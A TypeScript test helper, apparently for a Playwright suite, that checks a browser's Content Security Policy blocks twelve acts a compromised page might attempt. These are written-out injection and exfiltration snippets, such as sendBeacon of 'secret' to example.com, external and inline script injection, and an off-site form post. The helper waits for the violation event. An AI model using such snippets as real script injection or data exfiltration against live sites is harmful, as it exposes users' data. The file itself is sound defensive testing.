import type { Page } from 'playwright-core';

export const ELSEWHERE = 'https://example.com/';

/** What the browser said when it refused something; `policy` is the one it enforces. */
export interface Refusal {
  directive: string;
  policy: string;
}

/** What a page that was taken over would try: its name, the act, and the rule of the policy that forbids it. In whichever front. */
export const REFUSED_ACTS = [
  ['fetch from elsewhere', `fetch('${ELSEWHERE}').catch(() => undefined);`, 'connect-src'],
  ['fetch its own files', `fetch('/index.html').catch(() => undefined);`, 'connect-src'],
  ['send something on its way out', `navigator.sendBeacon('${ELSEWHERE}', 'secret');`, 'connect-src'],
  ['open a socket', `try { new WebSocket('wss://example.com/'); } catch {}`, 'connect-src'],
  ['show a picture from elsewhere', `new Image().src = '${ELSEWHERE}secret.png';`, 'img-src'],
  ['show a page from elsewhere', `add('iframe', { src: '${ELSEWHERE}' });`, 'frame-src'],
  ['run a script from elsewhere', `add('script', { src: '${ELSEWHERE}' });`, 'script-src-elem'],
  ['run a script in its text', `add('script', { textContent: 'globalThis.taken = true' });`, 'script-src-elem'],
  // Older browsers look at a handler when it is about to run.
  [
    'run a handler in its text',
    `const each = add('p', {}); each.setAttribute('onclick', 'globalThis.taken = true'); each.click();`,
    'script-src-attr',
  ],
  ['style itself in its text', `add('style', { textContent: 'body { display: none }' });`, 'style-src-elem'],
  ['send a form', `add('form', { action: '${ELSEWHERE}', method: 'post' }).submit();`, 'form-action'],
  ['give its links another base', `add('base', { href: '${ELSEWHERE}' });`, 'base-uri'],
] as const;

/** Does something in the page, and waits until the browser says that it refused it. */
export function refusalOf(page: Page, act: string): Promise<Refusal> {
  return page.evaluate(`new Promise((resolve) => {
    const add = (tag, values) => {
      const each = Object.assign(document.createElement(tag), values);
      document.body.append(each);
      setTimeout(() => each.remove(), 1000);
      return each;
    };
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, originalPolicy }) => {
      resolve({ directive: effectiveDirective, policy: originalPolicy });
    }, { once: true });
    ${act}
  })`);
}
